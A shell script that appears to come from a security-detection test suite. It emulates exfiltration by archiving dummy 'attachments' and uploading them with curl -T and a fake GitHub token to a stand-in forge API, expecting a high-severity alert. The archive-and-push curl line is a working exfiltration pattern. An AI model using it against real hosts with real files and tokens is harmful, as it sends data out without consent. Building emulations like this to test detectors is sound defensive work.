#!/bin/sh
# Emulates scenario curl-upload-release-asset (examples/scenarios/curl-upload-release-asset.yaml):
# Uploaded files archived and sent to a GitHub release with `curl -T` and a token header.
#
# Safe version: random "attachments", a fake token, and the in-namespace forge-api stand-in instead of
# uploads.github.com.
#
# Image: curlimages/curl:8.11.1
# Expected alert: bulk-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl tar head
emu_check_target "$EMU_FORGE_URL"
work="$EMU_WORKDIR/curl-upload-release-asset"
rm -rf "$work"
emu_dummy_files "$work/storage/attachments" 600 100
tar czf "$work/a.tgz" -C "$work/storage" attachments
emu_retry 12 curl -fsS -o /dev/null -T "$work/a.tgz" -H "Authorization: token ghp_FAKEEXAMPLETOKEN000000000000000000" \
  -H "Content-Type: application/gzip" "$EMU_FORGE_URL/repos/hd-exports/a/releases/191919/assets?name=a.tgz"
rm -rf "$work"
emu_expect bulk-read-then-push high
